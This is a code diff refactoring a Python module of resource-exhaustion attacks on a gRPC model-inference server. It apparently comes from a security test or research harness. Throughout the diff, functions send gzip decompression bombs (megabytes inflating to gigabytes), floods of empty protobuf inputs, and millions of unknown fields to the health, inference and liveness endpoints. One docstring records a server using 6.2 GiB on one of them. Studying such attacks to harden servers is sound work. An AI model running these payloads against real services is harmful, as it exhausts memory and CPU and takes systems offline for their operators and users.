@@ -18,29 +18,35 @@ def stream_of_unread_answers(attack):
             return
 
 
-def bomb_for_health(attack):
-    """8.35 MB that are 8.6 GB."""
+def bomb_for(method, attack):
     connection = attack.connect()
-    connection.send(h2.open_grpc(1, CHECK, GZIP))
+    connection.send(h2.open_grpc(1, method, GZIP))
     # It may be refused as soon as its length is known.
     if not connection.upload(1, h2.message(h2.gzip_bomb(8600 * MIB), compressed=True)):
         connection.answer(1)
 
 
+def bomb_for_health(attack):
+    """8.35 MB that are 8.6 GB."""
+    bomb_for(CHECK, attack)
+
+
 def bomb_for_inference(attack):
     """The same where messages may be large."""
+    bomb_for(MODEL_INFER, attack)
+
+
+def one_call(attack, head, message):
+    """A call of one message, whose answer is awaited."""
     connection = attack.connect()
-    connection.send(h2.open_grpc(1, MODEL_INFER, GZIP))
-    if not connection.upload(1, h2.message(h2.gzip_bomb(8600 * MIB), compressed=True)):
-        connection.answer(1)
+    connection.send(head)
+    connection.upload(1, message)
+    connection.answer(1)
 
 
 def empty_blocks(attack):
     """48 MiB that are nothing: the size of what comes of them bounds no work."""
-    connection = attack.connect()
-    connection.send(h2.open_grpc(1, MODEL_INFER, GZIP))
-    connection.upload(1, h2.message(gzip_of_nothing(48 * MIB), compressed=True))
-    connection.answer(1)
+    one_call(attack, h2.open_grpc(1, MODEL_INFER, GZIP), h2.message(gzip_of_nothing(48 * MIB), compressed=True))
 
 
 def small_bombs_at_once(attack):
@@ -75,26 +81,19 @@ def long_ids(attack):
 
 def bomb_of_empty_inputs(attack):
     """61 kB that are 30 million inputs without a field; gRPC's server took 6.2 GiB for them."""
-    connection = attack.connect()
-    connection.send(h2.open_grpc(1, MODEL_INFER, GZIP))
-    connection.upload(1, h2.message(h2.gzip_bomb(60 * MIB, b"\x2a\x00" * (MIB // 2)), compressed=True))
-    connection.answer(1)
+    bomb = h2.gzip_bomb(60 * MIB, b"\x2a\x00" * (MIB // 2))
+    one_call(attack, h2.open_grpc(1, MODEL_INFER, GZIP), h2.message(bomb, compressed=True))
 
 
 def empty_inputs(attack):
     """32 MiB of the same, uncompressed."""
-    connection = attack.connect()
-    connection.send(h2.open_grpc(1, MODEL_INFER))
-    connection.upload(1, h2.message(b"\x2a\x00" * (16 * MIB)))
-    connection.answer(1)
+    one_call(attack, h2.open_grpc(1, MODEL_INFER), h2.message(b"\x2a\x00" * (16 * MIB)))
 
 
 def unknown_fields(attack):
     """15 kB that are five million fields nobody knows, in a question that needs no token."""
-    connection = attack.connect()
-    connection.send(h2.open_grpc(1, SERVER_LIVE, GZIP))
-    connection.upload(1, h2.message(h2.gzip_bomb(15 * MIB, b"\xa0\x06\x01" * (MIB // 3)), compressed=True))
-    connection.answer(1)
+    bomb = h2.gzip_bomb(15 * MIB, b"\xa0\x06\x01" * (MIB // 3))
+    one_call(attack, h2.open_grpc(1, SERVER_LIVE, GZIP), h2.message(bomb, compressed=True))
 
 
 def unfinished_messages(attack):
